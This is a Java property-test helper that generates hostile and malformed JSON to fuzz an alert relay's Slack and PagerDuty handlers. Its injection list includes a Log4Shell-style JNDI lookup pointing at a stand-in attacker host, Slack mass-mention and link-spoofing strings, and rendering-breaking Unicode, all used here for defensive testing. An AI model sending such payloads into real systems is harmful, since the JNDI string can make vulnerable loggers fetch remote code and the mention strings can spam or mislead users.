package dev.alertrelay.common.testing;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import dev.alertrelay.common.json.Json;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generators of hostile and broken events for the property tests of every function: arbitrary JSON, truncated JSON and
 * real samples mutated (wrong types in any field, missing keys, huge strings, deep nesting, hostile Unicode, mrkdwn and
 * link injection), including inside JSON documents embedded in strings such as an SNS {@code Message}.
 *
 * <p>Everything is drawn from the {@link Random} jqwik hands to {@link Arbitraries#randomValue}, so a property's fixed
 * seed reproduces every input exactly. Such values are not shrunk: a failure shows the whole event.
 */
public final class HostileJson {

    /** The "huge string" size: far past every Slack and PagerDuty text limit, still fast to push through a handler. */
    public static final int HUGE = 100_000;

    /** Text Slack would act on if it reached mrkdwn unescaped. */
    public static final List<String> INJECTIONS = List.of(
            "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<#C123>", "<!subteam^S123>", "<https://evil.example|click>",
            "<https://evil.example>", "<mailto:a@evil.example|mail>", "<!date^1^{date}|x>", "&", "&amp;", "&lt;!channel&gt;",
            "*bold*", "_italic_", "~strike~", "`code`", "```block```", "> quote", "<", ">", "<<>>", "|", "a|b>c",
            "[REDACTED]", ":red_circle:", "\\", "\"", "'", "%", "$2F", "%s%n", "${jndi:ldap://evil.example/a}");

    /** Unicode that breaks naive length, cut and rendering logic. */
    public static final List<String> UNICODE = List.of(
            "\u202Eevil\u202C", "\u202Dltr", "\u200F", "\u2066iso\u2069", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇯🇵", "\uD83D", "\uDE00",
            "e\u0301\u0301\u0301\u0301", "Z\u0336\u0337\u0338\u0339\u033A\u033B\u033C\u033D\u033E", "\u0000", "\u0007", "\u001B[31mred",
            "\b\f", "\u2028\u2029", "\uFEFF", "\u200B", "\uFFFD", "\uFFFF", "日本語のアラーム", "مرحبا", "\r\n", "\t", "\u0085");

    /** Strings that parsers of numbers, times, ARNs and states may choke on. */
    public static final List<String> TRICKY = List.of(
            "", " ", "\n", "null", "true", "0", "-1", "-0", "1.5", "1e309", "-1e400", "NaN", "Infinity", "-Infinity", "0x1F",
            "99999999999999999999999", "9223372036854775808", "2147483648", "1e15", "+5",
            "2018-04-16T15:34:56.438+0000", "2026-11-21T10:04:05Z", "2026-11-21T10:04:05.123456789+05:30", "not-a-date",
            "2026-13-45T99:99:99Z", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "1970-01-01T00:00:00Z",
            "arn:", "arn:aws", "arn:::::", "arn:aws:cloudwatch:us-east-1:123456789012:alarm:", "arn:aws:cloudwatch:us-east-1:123456789012:alarm:a/b",
            "arn:aws:ecs:us-east-1:123456789012:task/", "arn:aws:ecs:us-east-1:123456789012:cluster/", "arn:aws:sns:::",
            ":", "/", "//", ":task/", "task/x/", "cluster/", "service:", "family:", "task-definition/", "task-definition/x:",
            "ecs-svc/", "targetgroup/a/0f", "targetgroup//", "app/x/0f", "app//", "/aws/lambda/", "/aws/lambda//",
            "ALARM", "OK", "INSUFFICIENT_DATA", "alarm", "STOPPED", "RUNNING", "DATA_MESSAGE", "CONTROL_MESSAGE",
            "us-east-1", "cn-north-1", "us-gov-west-1", "Asia Pacific (Tokyo)", "us-east-1/../evil", "123456789012",
            "GreaterThanThreshold", "LessThanLowerOrGreaterThanUpperThreshold", "ANOMALY_DETECTION_BAND(m1, 2)", "ANOMALY_DETECTION_BAND",
            "Statistic", "ExtendedStatistic", "SAMPLE_COUNT", "p99", "_", "__", "- TreatMissingData: ", "Percent",
            "Essential container in task exited", "OutOfMemoryError: Container killed due to memory usage",
            "CannotPullContainerError: ", "Task failed ELB health checks in (target-group ", "Scaling activity initiated by",
            "ERROR", "FATAL", "Exception", "\tat ", "Caused by: ", "{\"level\":\"ERROR\"}", "{", "[", "{}", "[]");

    private HostileJson() {
    }

    /** Hostile strings of every kind above, random Unicode, concatenations of them, and huge strings. */
    public static Arbitrary<String> strings() {
        return Arbitraries.randomValue(HostileJson::string);
    }

    /** Any JSON value (object, array or scalar) made of hostile strings and awkward numbers. */
    public static Arbitrary<JsonElement> values() {
        return Arbitraries.randomValue(random -> value(random, 4));
    }

    /** JSON text of any type at the top, now and then nested past any parser's limit. */
    public static Arbitrary<String> documents() {
        return Arbitraries.randomValue(random -> random.nextInt(20) == 0
                ? nestedText(random.nextInt(100, 5_000), random.nextBoolean())
                : Json.toJson(value(random, 5)));
    }

    /** A prefix of {@code text} (possibly empty), or the text with its last few characters removed. */
    public static Arbitrary<String> truncated(String text) {
        return Arbitraries.randomValue(random -> text.substring(0, random.nextBoolean()
                ? random.nextInt(text.length()) : Math.max(0, text.length() - 1 - random.nextInt(Math.min(text.length(), 8)))));
    }

    /** {@code sample} with one to four mutations applied, serialised. */
    public static Arbitrary<String> mutated(JsonObject sample) {
        return Arbitraries.randomValue(random -> {
            JsonObject copy = sample.deepCopy();
            int mutations = 1 + random.nextInt(4);
            for (int i = 0; i < mutations; i++) {
                mutate(copy, random);
            }
            return Json.toJson(copy);
        });
    }

    /** {@code [[[ ... ]]]} or {@code {"a":{"a": ... }}}, {@code depth} levels deep. */
    public static JsonElement deeplyNested(int depth, boolean arrays) {
        JsonElement inner = new JsonPrimitive("<!channel>");
        for (int i = 0; i < depth; i++) {
            if (arrays) {
                JsonArray array = new JsonArray();
                array.add(inner);
                inner = array;
            } else {
                JsonObject object = new JsonObject();
                object.add("a", inner);
                inner = object;
            }
        }
        return inner;
    }

    /**
     * The text of {@link #deeplyNested}: built as text because writing a tree thousands of levels deep overflows
     * Gson's recursive writer (the parser has a nesting limit; the writer has none).
     */
    public static String nestedText(int depth, boolean arrays) {
        return arrays ? "[".repeat(depth) + "\"<!channel>\"" + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "\"<!channel>\"" + "}".repeat(depth);
    }

    /** Applies one mutation somewhere in {@code root}, possibly inside a JSON document embedded in a string. */
    public static void mutate(JsonElement root, Random random) {
        List<Slot> slots = new ArrayList<>();
        collect(root, slots);
        if (slots.isEmpty()) {
            if (root instanceof JsonObject object) {
                object.add(string(random), value(random, 2));
            }
            return;
        }
        Slot slot = slots.get(random.nextInt(slots.size()));
        JsonElement current = slot.get();
        if (current instanceof JsonPrimitive primitive && primitive.isString() && random.nextInt(3) > 0
                && Json.tryParse(primitive.getAsString()) instanceof JsonElement embedded && !embedded.isJsonPrimitive()) {
            mutate(embedded, random);
            slot.set(new JsonPrimitive(Json.toJson(embedded)));
            return;
        }
        switch (random.nextInt(12)) {
            case 0, 1 -> slot.remove();
            case 2 -> slot.set(JsonNull.INSTANCE);
            case 3 -> slot.set(scalar(random));
            case 4 -> slot.set(new JsonPrimitive(random.nextBoolean() ? pick(TRICKY, random) : string(random)));
            case 5 -> slot.set(current instanceof JsonPrimitive p && p.isString()
                    ? new JsonPrimitive(spliced(p.getAsString(), random)) : value(random, 3));
            case 6 -> slot.set(random.nextBoolean() ? new JsonObject() : new JsonArray());
            case 7 -> {
                JsonArray wrapped = new JsonArray();
                wrapped.add(current);
                slot.set(random.nextBoolean() ? wrapped : singletonObject(string(random), current));
            }
            case 8 -> slot.set(deeplyNested(random.nextInt(20, 200), random.nextBoolean()));
            case 9 -> slot.set(repeated(current, random));
            case 10 -> {
                if (slot.parent() instanceof JsonObject parent) {
                    parent.add(string(random), value(random, 2));
                } else {
                    slot.set(value(random, 3));
                }
            }
            default -> slot.set(value(random, 3));
        }
    }

    /** One hostile string: listed, random Unicode, a mix, or huge. */
    public static String string(Random random) {
        return switch (random.nextInt(12)) {
            case 0, 1 -> pick(INJECTIONS, random);
            case 2 -> pick(UNICODE, random);
            case 3, 4 -> pick(TRICKY, random);
            case 5 -> randomUnicode(random, random.nextInt(1, 40));
            case 6 -> huge(random);
            default -> {
                StringBuilder mix = new StringBuilder();
                for (int i = random.nextInt(1, 6); i > 0; i--) {
                    List<String> source = switch (random.nextInt(4)) {
                        case 0 -> INJECTIONS;
                        case 1 -> UNICODE;
                        case 2 -> TRICKY;
                        default -> List.of(randomUnicode(random, random.nextInt(1, 8)));
                    };
                    mix.append(pick(source, random));
                }
                yield mix.toString();
            }
        };
    }

    /** About {@link #HUGE} chars of one hostile piece repeated. */
    public static String huge(Random random) {
        String piece = switch (random.nextInt(6)) {
            case 0 -> "x";
            case 1 -> "<!channel> & ";
            case 2 -> "😀";
            case 3 -> "e\u0301";
            case 4 -> "line\n";
            default -> pick(INJECTIONS, random) + pick(UNICODE, random);
        };
        return piece.repeat(Math.max(1, HUGE / piece.length()));
    }

    private static String spliced(String original, Random random) {
        int at = original.isEmpty() ? 0 : random.nextInt(original.length() + 1);
        return original.substring(0, at) + string(random) + original.substring(at);
    }

    private static String randomUnicode(Random random, int length) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int codePoint = switch (random.nextInt(6)) {
                case 0 -> random.nextInt(0x20);
                case 1 -> random.nextInt(0x20, 0x7F);
                case 2 -> random.nextInt(0x300, 0x370);
                case 3 -> random.nextInt(0x1F300, 0x1FAFF);
                case 4 -> random.nextInt(0xD800, 0xE000);
                default -> random.nextInt(0x80, 0x10000);
            };
            out.appendCodePoint(codePoint);
        }
        return out.toString();
    }

    private static JsonElement value(Random random, int depth) {
        int kind = depth <= 0 ? random.nextInt(4) : random.nextInt(6);
        return switch (kind) {
            case 0 -> JsonNull.INSTANCE;
            case 1 -> new JsonPrimitive(random.nextBoolean());
            case 2 -> scalar(random);
            case 3 -> new JsonPrimitive(string(random));
            case 4 -> {
                JsonArray array = new JsonArray();
                for (int i = random.nextInt(6); i > 0; i--) {
                    array.add(value(random, depth - 1));
                }
                yield array;
            }
            default -> {
                JsonObject object = new JsonObject();
                for (int i = random.nextInt(6); i > 0; i--) {
                    object.add(random.nextBoolean() ? pick(KEYS, random) : string(random), value(random, depth - 1));
                }
                yield object;
            }
        };
    }

    /** Keys the functions read, so arbitrary JSON now and then looks like an event. */
    private static final List<String> KEYS = List.of("Records", "Sns", "Message", "Subject", "TopicArn", "Timestamp", "alarmData",
            "detail", "detail-type", "source", "awslogs", "data", "AlarmName", "NewStateValue", "Trigger", "state", "value",
            "alarmName", "configuration", "metrics", "taskArn", "lastStatus", "containers", "exitCode", "logEvents", "message");

    private static JsonElement scalar(Random random) {
        return switch (random.nextInt(10)) {
            case 0 -> new JsonPrimitive(0);
            case 1 -> new JsonPrimitive(-1);
            case 2 -> new JsonPrimitive(random.nextInt());
            case 3 -> new JsonPrimitive(random.nextLong());
            case 4 -> new JsonPrimitive(random.nextDouble() * 1e6 - 5e5);
            case 5 -> new JsonPrimitive(Double.MAX_VALUE);
            case 6 -> new JsonPrimitive(new BigDecimal("1e400"));
            case 7 -> new JsonPrimitive(new BigInteger("-99999999999999999999999999"));
            case 8 -> new JsonPrimitive(random.nextBoolean());
            default -> new JsonPrimitive(1.5);
        };
    }

    private static JsonElement repeated(JsonElement element, Random random) {
        JsonArray array = new JsonArray();
        for (int i = random.nextInt(20, 300); i > 0; i--) {
            array.add(element.deepCopy());
        }
        return array;
    }

    private static JsonObject singletonObject(String key, JsonElement value) {
        JsonObject object = new JsonObject();
        object.add(key, value);
        return object;
    }

    private static String pick(List<String> values, Random random) {
        return values.get(random.nextInt(values.size()));
    }

    private static void collect(JsonElement element, List<Slot> slots) {
        if (element instanceof JsonObject object) {
            for (Map.Entry<String, JsonElement> entry : object.entrySet()) {
                slots.add(new Slot(object, entry.getKey(), -1));
                collect(entry.getValue(), slots);
            }
        } else if (element instanceof JsonArray array) {
            for (int i = 0; i < array.size(); i++) {
                slots.add(new Slot(array, null, i));
                collect(array.get(i), slots);
            }
        }
    }

    /** A place in a JSON tree: a member of an object or an element of an array. */
    private record Slot(JsonElement parent, String key, int index) {
        JsonElement get() {
            return parent instanceof JsonObject object ? object.get(key) : ((JsonArray) parent).get(index);
        }

        void set(JsonElement value) {
            if (parent instanceof JsonObject object) {
                object.add(key, value);
            } else {
                ((JsonArray) parent).set(index, value);
            }
        }

        void remove() {
            if (parent instanceof JsonObject object) {
                object.remove(key);
            } else {
                ((JsonArray) parent).remove(index);
            }
        }
    }
}
